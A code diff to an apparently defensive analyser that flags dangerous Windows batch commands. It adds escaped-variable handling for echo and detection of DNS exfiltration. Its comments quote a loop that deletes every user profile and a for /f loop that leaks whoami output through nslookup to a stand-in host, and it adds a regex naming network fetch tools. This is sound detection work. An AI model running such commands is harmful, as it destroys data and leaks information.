@@ -89,11 +89,28 @@ def analyse(text: str, scope: Scope) -> None:
         _record_set(words, scope)
         _alternate_streams(words, redirects, scope)
         info = dispatch.judge(words, scope, stdin)
-        wrappers.cmd_wrote(scope, words, redirects, info.network_fetch, echoed)
+        wrappers.cmd_wrote(scope, _batch_text(words), redirects, info.network_fetch, echoed)
         if words[0].text.lower() == "echo" and not redirects:
             echoed.append(" ".join(w.text for w in words[1:]))
         else:
             echoed = []
+
+
+def _batch_text(words: list[Word]) -> list[Word]:
+    """What `echo` writes into a batch file: `%%NAME%%` is written as `%NAME%` (expanded when
+    the batch runs), so a word holding only such escapes is known text, not unknown."""
+    if not words or words[0].text.lower() not in ("echo", "echo."):
+        return words
+    out = [words[0]]
+    for w in words[1:]:
+        # `%%SystemRoot%%` arrives with the inner variable already expanded (`%C:\\Windows%`).
+        text = re.sub(r"%%(\w+)%%", r"%\1%", w.text)
+        text = re.sub(r"%([A-Za-z]:[\\/][^%]*|~[^%]*)%", r"\1", text)
+        if text != w.text and not _VAR.search(re.sub(r"%\w+%", "", text)):
+            out.append(Word(text, w.start, w.end, False, w.glob, w.origin))
+        else:
+            out.append(w)
+    return out
 
 
 def _alternate_streams(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
@@ -283,6 +300,11 @@ def _strip_control(words: list[Word]) -> list[Word]:
     return words
 
 
+_LOOKUP = re.compile(
+    r"(?i)\A@?(nslookup|ping|ping6|tracert|pathping|resolve-dnsname|curl|wget|certutil)(\.exe)?\Z"
+)
+
+
 def _for_body(words: list[Word], do: int) -> list[Word]:
     """The body of `for [/d|/r DIR] %%i in (SET) do BODY` with the loop variable replaced by
     the set (`for /d %i in (C:\\Users\\*) do rd /s /q %i` deletes every profile). Sets read
@@ -306,6 +328,15 @@ def _for_body(words: list[Word], do: int) -> list[Word]:
         if listing is not None:
             items = [listing[0]]
         elif echoed is None or "tokens" in " ".join(low) or "delims" in " ".join(low):
+            if var is not None and body and src[:1] in "'`" and _LOOKUP.match(body[0].text):
+                # `for /f %t in ('whoami') do nslookup %t.x.example`: a command's output
+                # is put in the name looked up (DNS exfiltration).
+                return [
+                    Word(w.text, w.start, w.end, True, False, "command")
+                    if var.lower() in w.text.lower()
+                    else w
+                    for w in body
+                ]
             return body
         else:
             items = echoed.group(1).split()[:1]
